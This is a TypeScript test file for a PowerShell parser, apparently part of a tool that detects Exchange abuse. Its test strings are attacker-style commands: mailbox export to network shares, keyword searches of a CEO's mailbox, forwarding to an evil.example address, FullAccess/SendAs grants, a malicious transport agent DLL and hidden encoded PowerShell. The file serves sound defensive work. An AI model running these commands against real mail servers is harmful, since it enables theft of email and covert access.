import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  canonicalParam, decodeEncodedCommand, findCmdlets, parseHashtable, scriptFromCommandLine, tokenize, MAX_SCRIPT_CHARS,
} from '../../src/transforms/powershell.js';

const one = (s: string) => {
  const c = findCmdlets(s);
  assert.equal(c.length, 1, `one call expected in ${s}`);
  return c[0];
};

test('-ContentFilter {…} script block with nested braces and strings holding braces', () => {
  const c = one(`New-MailboxExportRequest -Mailbox victim -ContentFilter {(Body -like "*summit}*") -and (Subject -like '*{G7*')} -FilePath \\\\127.0.0.1\\c$\\x.pst`);
  assert.equal(c.name, 'New-MailboxExportRequest');
  assert.equal(c.params.ContentFilter, `(Body -like "*summit}*") -and (Subject -like '*{G7*')`);
  assert.equal(c.params.FilePath, '\\\\127.0.0.1\\c$\\x.pst');
  assert.equal(c.params.Mailbox, 'victim');
});

test("-SearchQuery '…' with doubled single quotes; -ContentMatchQuery \"…\" with backtick and doubled double quotes", () => {
  const s = one(`Search-Mailbox -Identity ceo -SearchQuery 'Subject:"G7" AND body:''Élysée''' -TargetMailbox evil -TargetFolder x -LogLevel Full`);
  assert.equal(s.params.SearchQuery, `Subject:"G7" AND body:'Élysée'`);
  assert.equal(s.params.Identity, 'ceo');
  const c = one('New-ComplianceSearch -Name s -ContentMatchQuery "subject:`"Treffen`" AND body:""Gipfel"" `$x" -ExchangeLocation All');
  assert.equal(c.params.ContentMatchQuery, 'subject:"Treffen" AND body:"Gipfel" $x');
});

test('smart quotes, here-strings and comments', () => {
  const c = one('Search-Mailbox -Identity ceo -SearchQuery \u2018body:\u201csummit\u201d\u2019 # a comment -Force');
  assert.equal(c.params.SearchQuery, 'body:\u201csummit\u201d');
  assert.equal(c.params.Force, undefined);
  const h = one("New-ComplianceSearch -Name s -ContentMatchQuery @'\nsubject:'summit' OR \"sommet\"\n'@ -ExchangeLocation All");
  assert.equal(h.params.ContentMatchQuery, `subject:'summit' OR "sommet"`);
  assert.equal(h.params.ExchangeLocation, 'All');
  const b = one('<# block\n comment #> Set-Mailbox -Identity a -ForwardingSmtpAddress x@evil.example');
  assert.equal(b.params.ForwardingSmtpAddress, 'x@evil.example');
});

test('-Param:value, switches, comma arrays, backtick line continuation', () => {
  const c = one('Add-MailboxPermission -Identity:ceo -User evil `\n  -AccessRights FullAccess,SendAs -AutoMapping:$false -Confirm:$false -Deny');
  assert.equal(c.params.Identity, 'ceo');
  assert.equal(c.params.User, 'evil');
  assert.deepEqual(c.params.AccessRights, ['FullAccess', 'SendAs']);
  assert.equal(c.params.AutoMapping, 'False');
  assert.equal(c.params.Confirm, 'False');
  assert.equal(c.params.Deny, true);
});

test('splatting: a hashtable assigned in the same text is resolved, variables too', () => {
  const c = findCmdlets(`$p = @{\n  ContentFilter = "Subject -like '*summit*'"\n  Mailbox = 'ceo'; FilePath='\\\\srv\\share\\a.pst'\n}\n$q = 'kw:secret'\nNew-MailboxExportRequest @p -Name x\nSearch-Mailbox ceo -SearchQuery $q`);
  assert.equal(c.length, 2);
  assert.equal(c[0].params.ContentFilter, "Subject -like '*summit*'");
  assert.equal(c[0].params.Mailbox, 'ceo');
  assert.equal(c[0].params.FilePath, '\\\\srv\\share\\a.pst');
  assert.equal(c[0].params.Name, 'x');
  assert.equal(c[1].params.SearchQuery, 'kw:secret');
  assert.equal(c[1].params.Identity, 'ceo');
  assert.deepEqual(parseHashtable("A = 1; B = 'x', 'y'"), [['A', '1'], ['B', ['x', 'y']]]);
});

test('aliases and unambiguous prefixes; -cf is Confirm (a PowerShell alias), not ContentFilter', () => {
  assert.equal(canonicalParam('New-MailboxExportRequest', 'contentfilterl'), 'ContentFilterLanguage');
  assert.equal(canonicalParam('New-MailboxExportRequest', 'contentf'), 'contentf'); // ContentFilter or ContentFilterLanguage: ambiguous, as in PowerShell
  assert.equal(canonicalParam('New-MailboxExportRequest', 'ContentFilter'), 'ContentFilter');
  assert.equal(canonicalParam('New-MailboxExportRequest', 'cf'), 'Confirm');
  assert.equal(canonicalParam('New-MailboxExportRequest', 'C'), 'C'); // ambiguous: left as written
  assert.equal(canonicalParam('New-MailboxExportRequest', 'FILEP'), 'FilePath');
  assert.equal(canonicalParam('Search-Mailbox', 'SearchQ'), 'SearchQuery');
  assert.equal(canonicalParam('Set-MailboxAuditBypassAssociation', 'AuditB'), 'AuditBypassEnabled');
  assert.equal(canonicalParam('Unknown-Thing', 'Foo'), 'Foo');
  assert.equal(canonicalParam('Get-Recipient', 'identity'), 'Identity'); // known name: canonical casing, no prefixing
  assert.equal(canonicalParam('Get-Recipient', 'ident'), 'ident');
  const c = one('asnp Microsoft.Exchange.Management.PowerShell.SnapIn');
  assert.equal(c.name, 'Add-PSSnapin');
  assert.equal(c.params.Name, 'Microsoft.Exchange.Management.PowerShell.SnapIn');
  assert.equal(one('new-mailboxexportrequest -mailbox a -filep b').name, 'New-MailboxExportRequest');
  assert.equal(one('Microsoft.Exchange.Management.PowerShell.E2010\\Search-Mailbox x -SearchQ y').params.SearchQuery, 'y');
});

test('pipelines, statements and nested script blocks each yield their cmdlets', () => {
  const c = findCmdlets(`Get-Mailbox -ResultSize Unlimited | ForEach-Object { New-MailboxExportRequest -Mailbox $_.Alias -FilePath "\\\\x\\$($_.Alias).pst" }; Remove-MailboxExportRequest -Identity a -Confirm:$false && Get-MailboxExportRequest`);
  assert.deepEqual(c.map((x) => x.name), ['Get-Mailbox', 'ForEach-Object', 'New-MailboxExportRequest', 'Remove-MailboxExportRequest', 'Get-MailboxExportRequest']);
  assert.equal(c[2].params.FilePath, '\\\\x\\$($_.Alias).pst');
  const inv = findCmdlets('Invoke-Command -ComputerName ex01 -ScriptBlock { Search-Mailbox -Identity a -SearchQuery "x" }');
  assert.deepEqual(inv.map((x) => x.name), ['Invoke-Command', 'Search-Mailbox']);
});

test('parameter text logged separately (Exchange logs) is bound to the known cmdlet', () => {
  const [c] = findCmdlets('-Name "Evil" -AssemblyPath ".\\NetshHelperBeacon.dll" -TransportAgentFactory "hack"', 'Install-TransportAgent');
  assert.equal(c.name, 'Install-TransportAgent');
  assert.equal(c.params.AssemblyPath, '.\\NetshHelperBeacon.dll');
  assert.equal(c.rawParams, '-Name "Evil" -AssemblyPath ".\\NetshHelperBeacon.dll" -TransportAgentFactory "hack"');
});

test('non-cmdlet words are not reported; hostile input stays bounded', () => {
  assert.deepEqual(findCmdlets('echo hello; $x = 5; "Get-Mailbox is a string"'), []);
  // deep unclosed nesting and long input: completes, capped
  const deep = '{'.repeat(100000) + 'Search-Mailbox';
  assert.ok(Array.isArray(findCmdlets(deep)));
  const long = 'Get-Mailbox -Identity ' + 'a'.repeat(MAX_SCRIPT_CHARS * 2);
  const t = tokenize(long);
  assert.ok(t[t.length - 1].end <= MAX_SCRIPT_CHARS);
  assert.ok(Array.isArray(findCmdlets('"unterminated')));
  assert.ok(Array.isArray(findCmdlets("'unterminated")));
  assert.ok(Array.isArray(findCmdlets('@{a = ')));
});

test('command lines: -EncodedCommand (UTF-16LE base64), -Command, bare command, -File ignored', () => {
  const script = 'New-MailboxExportRequest -Mailbox a -FilePath \\\\h\\c$\\a.pst';
  const enc = Buffer.from(script, 'utf16le').toString('base64');
  assert.deepEqual(scriptFromCommandLine(`C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -enc ${enc}`), { script, encoded: true });
  assert.deepEqual(scriptFromCommandLine(`powershell -EncodedCommand ${enc}`)?.script, script);
  assert.deepEqual(scriptFromCommandLine(`pwsh.exe -e ${enc}`)?.script, script);
  assert.equal(
    scriptFromCommandLine('"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -ExecutionPolicy Bypass -Command "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-Mailbox"')?.script,
    'Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-Mailbox',
  );
  assert.equal(scriptFromCommandLine('powershell.exe Get-Mailbox -Identity a')?.script, 'Get-Mailbox -Identity a');
  assert.equal(scriptFromCommandLine('powershell.exe -File C:\\x.ps1'), undefined);
  assert.equal(scriptFromCommandLine('cmd.exe /c whoami'), undefined);
  assert.equal(decodeEncodedCommand('!!!not base64'), undefined);
  assert.equal(decodeEncodedCommand(Buffer.from([0xff, 0x00, 0x01, 0x00, 0x02, 0x00, 0x03, 0x00]).toString('base64')), undefined);
});
